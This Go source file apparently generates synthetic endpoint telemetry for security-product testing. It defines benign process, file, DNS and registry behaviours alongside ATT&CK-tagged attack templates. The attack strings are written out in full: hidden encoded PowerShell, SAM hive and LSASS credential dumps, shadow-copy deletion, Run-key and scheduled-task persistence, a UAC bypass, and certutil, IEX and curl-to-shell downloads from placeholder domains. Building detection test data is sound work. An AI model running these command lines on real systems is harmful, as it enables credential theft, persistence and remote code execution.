package gen

import (
	"encoding/base64"
	"strings"
)

// Endpoint telemetry is generated from behaviours: one thing a process does
// (start a child, write a file or registry value, connect, resolve a name).
// The same catalog feeds search endpointActivities, OAT endpoint details and
// workbench indicators, so an alert's command line is one the telemetry
// actually shows.

// eventID is the endpoint activity eventId (§3.2 enum).
type eventID int

const (
	evProcess    eventID = 1
	evFile       eventID = 2
	evConnection eventID = 3
	evDNS        eventID = 4
	evRegistry   eventID = 5
)

// behaviour is a template. Strings may hold placeholders filled per record:
// {user} the host owner, {domain} a destination domain, {ip} an internal
// peer, {rand} a random token, {b64} a random base64 blob.
type behaviour struct {
	name       string
	benign     bool   // everyday activity, the bulk of raw telemetry
	technique  string // MITRE ATT&CK technique the telemetry is tagged with
	family     string // OS family of the host
	event      eventID
	subID      int // eventSubId within the event's range (§3.2)
	system     bool
	parent     string
	parentCmd  string
	process    string
	processCmd string
	object     string // child image (process events) or written file (file events)
	objectCmd  string
	regKey     string
	regValue   string
	regData    string
	port       int     // connection destination port
	bad        float64 // probability that the destination is a suspicious domain
}

const (
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmdExe     = `C:\Windows\System32\cmd.exe`
	explorer   = `C:\Windows\explorer.exe`
	winword    = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	chrome     = `C:\Program Files\Google\Chrome\Application\chrome.exe`
	rundll32   = `C:\Windows\System32\rundll32.exe`
	servicesEx = `C:\Windows\System32\services.exe`
	svchost    = `C:\Windows\System32\svchost.exe`
)

// benign behaviours dominate raw telemetry; the rest are attack techniques
// that OAT filters and workbench models refer to by name.
var behaviours = []*behaviour{
	{name: "service-start", benign: true, family: "windows", event: evProcess, subID: 2, system: true,
		parent: `C:\Windows\System32\wininit.exe`, parentCmd: `wininit.exe`,
		process: servicesEx, processCmd: `C:\Windows\system32\services.exe`,
		object: `C:\Windows\System32\sppsvc.exe`, objectCmd: `C:\Windows\system32\sppsvc.exe`},
	{name: "browser-start", benign: true, family: "windows", event: evProcess, subID: 2,
		parent: `C:\Windows\System32\userinit.exe`, parentCmd: `C:\Windows\system32\userinit.exe`,
		process: explorer, processCmd: `C:\Windows\Explorer.EXE`,
		object: chrome, objectCmd: `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US`},
	{name: "process-list", benign: true, family: "windows", event: evProcess, subID: 2,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: cmdExe, processCmd: `C:\Windows\system32\cmd.exe /c ""C:\pos\autostart.bat" "`,
		object: `C:\Windows\System32\tasklist.exe`, objectCmd: `tasklist  /FI "IMAGENAME eq posclient.exe" /FO CSV `},
	{name: "document-save", benign: true, family: "windows", event: evFile, subID: 101,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: winword, processCmd: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n`,
		object: `C:\Users\{user}\Documents\Quarterly_Report_{rand}.docx`},
	{name: "web-connection", benign: true, family: "windows", event: evConnection, subID: 201, port: 443, bad: 0.02,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: chrome, processCmd: `"C:\Program Files\Google\Chrome\Application\chrome.exe"`},
	{name: "dns-query", benign: true, family: "windows", event: evDNS, subID: 301, system: true, bad: 0.02,
		parent: servicesEx, parentCmd: `C:\Windows\system32\services.exe`,
		process: svchost, processCmd: `C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache`},
	{name: "ssh-login", benign: true, family: "linux", event: evProcess, subID: 2,
		parent: `/usr/lib/systemd/systemd`, parentCmd: `/usr/lib/systemd/systemd --switched-root --system --deserialize 17`,
		process: `/usr/sbin/sshd`, processCmd: `sshd: {user} [priv]`,
		object: `/usr/bin/bash`, objectCmd: `-bash`},

	{name: "encoded-powershell", technique: "T1059.001", family: "windows", event: evProcess, subID: 2,
		parent: winword, parentCmd: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_{rand}.docm"`,
		process: cmdExe, processCmd: `C:\Windows\system32\cmd.exe /c powershell -nop -w hidden -enc {b64}`,
		object: powershell, objectCmd: `powershell  -nop -w hidden -enc {b64}`},
	{name: "registry-hive-dump", technique: "T1003.002", family: "windows", event: evProcess, subID: 2,
		parent: powershell, parentCmd: `c:\windows\system32\windowspowershell\v1.0\powershell.exe -nop -noni -w hidden -c $x=$((gp hkcu:software\microsoft\windows update).update); powershell -nop -noni -w hidden -enc $x`,
		process: cmdExe, processCmd: `cmd.exe /c reg save hklm\sam C:\Users\Public\sam_{rand}.hive /y`,
		object: `C:\Windows\System32\reg.exe`, objectCmd: `reg  save hklm\sam C:\Users\Public\sam_{rand}.hive /y`},
	{name: "shadow-copy-delete", technique: "T1490", family: "windows", event: evProcess, subID: 2,
		parent: `C:\Users\{user}\AppData\Local\Temp\{rand}.exe`, parentCmd: `"C:\Users\{user}\AppData\Local\Temp\{rand}.exe" -path C:\ -enc`,
		process: cmdExe, processCmd: `C:\Windows\system32\cmd.exe /c vssadmin.exe delete shadows /all /quiet`,
		object: `C:\Windows\System32\vssadmin.exe`, objectCmd: `vssadmin.exe  delete shadows /all /quiet`},
	{name: "scheduled-task", technique: "T1053.005", family: "windows", event: evProcess, subID: 2,
		parent: powershell, parentCmd: `powershell.exe -ExecutionPolicy Bypass -File C:\Users\{user}\AppData\Local\Temp\setup.ps1`,
		process: cmdExe, processCmd: `cmd.exe /c schtasks /create /sc minute /mo 30 /tn "OneDrive Update {rand}" /tr "C:\Users\{user}\AppData\Roaming\{rand}.exe" /f`,
		object: `C:\Windows\System32\schtasks.exe`, objectCmd: `schtasks  /create /sc minute /mo 30 /tn "OneDrive Update {rand}" /tr "C:\Users\{user}\AppData\Roaming\{rand}.exe" /f`},
	{name: "certutil-download", technique: "T1105", family: "windows", event: evProcess, subID: 2, bad: 1,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: powershell, processCmd: `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noni -win hidden -Ep ByPass`,
		object: `C:\Windows\System32\certutil.exe`, objectCmd: `certutil.exe -urlcache -split -f http://{domain}/a.exe C:\Users\Public\{rand}.exe`},
	{name: "domain-admin-discovery", technique: "T1069.002", family: "windows", event: evProcess, subID: 2,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: cmdExe, processCmd: `"C:\Windows\system32\cmd.exe"`,
		object: `C:\Windows\System32\net.exe`, objectCmd: `net  group "domain admins" /domain`},
	{name: "rundll32-payload", technique: "T1218.011", family: "windows", event: evProcess, subID: 2,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: powershell, processCmd: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noni -win hidden -Ep ByPass $r = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{b64}')); iex $r;  `,
		object: rundll32, objectCmd: `c:\windows\system32\rundll32.exe c:\users\{user}\appdata\local\{rand}.dat entrypoint`},
	{name: "run-key-persistence", technique: "T1547.001", family: "windows", event: evRegistry, subID: 402,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: powershell, processCmd: `powershell.exe -nop -w hidden -c "Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name OneDriveUpdate -Value C:\Users\{user}\AppData\Roaming\{rand}.exe"`,
		regKey: `hkcu\software\microsoft\windows\currentversion\run`, regValue: `onedriveupdate`, regData: `C:\Users\{user}\AppData\Roaming\{rand}.exe`},
	{name: "uac-bypass", technique: "T1548.002", family: "windows", event: evRegistry, subID: 402,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: powershell, processCmd: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -NonI -W Hidden -c $x=$((gp HKCU:Software\Microsoft\Windows Update).Update); powershell -NoP -NonI -W Hidden -enc $x`,
		regKey: `hkcr\ms-settings\shell\open\command`, regValue: `delegateexecute`, regData: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -NonI -W Hidden -enc {b64}`},
	{name: "lsass-minidump", technique: "T1003.001", family: "windows", event: evProcess, subID: 2,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: powershell, processCmd: `powershell.exe -nop -c "Start-Process rundll32 -ArgumentList 'C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\{rand}.dmp full'"`,
		object: rundll32, objectCmd: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\Windows\Temp\{rand}.dmp full`},
	{name: "wmic-remote-exec", technique: "T1047", family: "windows", event: evProcess, subID: 2,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: cmdExe, processCmd: `"C:\Windows\system32\cmd.exe"`,
		object: `C:\Windows\System32\wbem\WMIC.exe`, objectCmd: `wmic /node:{ip} process call create "cmd.exe /c C:\Windows\Temp\{rand}.bat"`},
	{name: "psexec-service", technique: "T1569.002", family: "windows", event: evProcess, subID: 2, system: true,
		parent: `C:\Windows\System32\wininit.exe`, parentCmd: `wininit.exe`,
		process: servicesEx, processCmd: `C:\Windows\system32\services.exe`,
		object: `C:\Windows\PSEXESVC.exe`, objectCmd: `C:\Windows\PSEXESVC.exe`},
	{name: "c2-connection", technique: "T1071.001", family: "windows", event: evConnection, subID: 201, port: 8443, bad: 1,
		parent: powershell, parentCmd: `powershell.exe -nop -w hidden -enc {b64}`,
		process: rundll32, processCmd: `c:\windows\system32\rundll32.exe c:\users\{user}\appdata\local\{rand}.dat entrypoint`},
	{name: "c2-dns", technique: "T1071.004", family: "windows", event: evDNS, subID: 301, bad: 1,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: powershell, processCmd: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://{domain}/p.ps1')"`},
	{name: "payload-download", technique: "T1204.002", family: "windows", event: evFile, subID: 101, bad: 1,
		parent: explorer, parentCmd: `C:\Windows\Explorer.EXE`,
		process: chrome, processCmd: `"C:\Program Files\Google\Chrome\Application\chrome.exe"`,
		object: `C:\Users\{user}\Downloads\{rand}.exe`},
	{name: "curl-pipe-shell", technique: "T1059.004", family: "linux", event: evProcess, subID: 2, bad: 1,
		parent: `/usr/bin/bash`, parentCmd: `-bash`,
		process: `/usr/bin/bash`, processCmd: `bash -c curl -fsSL http://{domain}/install.sh | sh`,
		object: `/usr/bin/curl`, objectCmd: `curl -fsSL http://{domain}/install.sh`},
}

// activityMix makes ordinary activity the bulk of raw telemetry.
var activityMix = func() []weighted[*behaviour] {
	out := make([]weighted[*behaviour], len(behaviours))
	for i, b := range behaviours {
		w := 3
		if b.benign {
			w = 40
		}
		out[i] = weighted[*behaviour]{w, b}
	}
	return out
}()

var behaviourByName = byName(activityMix, func(b *behaviour) string { return b.name })

// activity is a behaviour played out on one host at one time.
type activity struct {
	b                                *behaviour
	h                                *host
	user                             string // account name the process runs as
	userDomain                       string
	parent, process, object          *fileFacts
	parentCmd, processCmd, objectCmd string
	regKey, regValue, regData        string
	domain, request                  string
	dst                              string
	resolved                         string // DNS answer
	dpt, spt                         int
	parentPid, processPid, objectPid int
	processLaunch                    int64 // epoch ms
}

// play renders behaviour b on host h (a host of b's family when nil).
func (d *draw) play(b *behaviour, h *host) *activity {
	if h == nil {
		h = hostFor(d, b.family)
	}
	a := &activity{b: b, h: h, user: h.owner.sam, userDomain: tenantNetBIOS}
	if b.system {
		a.user, a.userDomain = "SYSTEM", "NT AUTHORITY"
	} else if b.family == "linux" {
		a.userDomain = ""
	}
	vars := placeholders{user: h.owner.sam, domain: d.domain(b.bad), ip: d.internalIP(), rand: d.hex(8), b64: d.base64()}
	a.domain = vars.domain
	a.parentCmd = vars.expand(b.parentCmd)
	a.processCmd = vars.expand(b.processCmd)
	a.objectCmd = vars.expand(b.objectCmd)
	a.regKey, a.regValue, a.regData = b.regKey, b.regValue, vars.expand(b.regData)
	a.parent = d.file(vars.expand(b.parent))
	a.process = d.file(vars.expand(b.process))
	if b.object != "" {
		a.object = d.file(vars.expand(b.object))
	}
	a.parentPid, a.processPid, a.objectPid = 4*d.between(100, 4000), 4*d.between(100, 8000), 4*d.between(100, 9000)
	a.processLaunch = d.rec.Time.UnixMilli() - int64(d.between(500, 6*3600*1000))
	switch b.event {
	case evConnection:
		a.dst, a.dpt, a.spt = pick(d, externalIPs), b.port, d.between(49152, 65535)
		a.request = "https://" + a.domain + "/"
	case evDNS: // dst is the site's resolver; the answer is kept in objectIp
		a.dst, a.dpt, a.spt = "10.10.0.2", 53, d.between(49152, 65535)
		a.resolved = pick(d, externalIPs)
	}
	if b.bad == 1 && b.event != evDNS {
		a.request = d.url(a.domain)
	}
	return a
}

// base64 returns a short random base64 blob like an encoded PowerShell command.
func (d *draw) base64() string {
	b := make([]byte, 24)
	for i := range b {
		b[i] = byte(d.Uint32())
	}
	return base64.StdEncoding.EncodeToString(b)
}

type placeholders struct{ user, domain, ip, rand, b64 string }

// expand replaces the {name} placeholders of s. Hand-written: a
// strings.Replacer would be rebuilt for every record's values, and os.Expand
// would also expand the $x variables of PowerShell command lines.
func (p placeholders) expand(s string) string {
	if !strings.Contains(s, "{") {
		return s
	}
	var out strings.Builder
	for {
		i := strings.IndexByte(s, '{')
		j := strings.IndexByte(s[max(i, 0):], '}')
		if i < 0 || j < 0 {
			out.WriteString(s)
			return out.String()
		}
		out.WriteString(s[:i])
		switch s[i+1 : i+j] {
		case "user":
			out.WriteString(p.user)
		case "domain":
			out.WriteString(p.domain)
		case "ip":
			out.WriteString(p.ip)
		case "rand":
			out.WriteString(p.rand)
		case "b64":
			out.WriteString(p.b64)
		default:
			out.WriteString(s[i : i+j+1])
		}
		s = s[i+j+1:]
	}
}
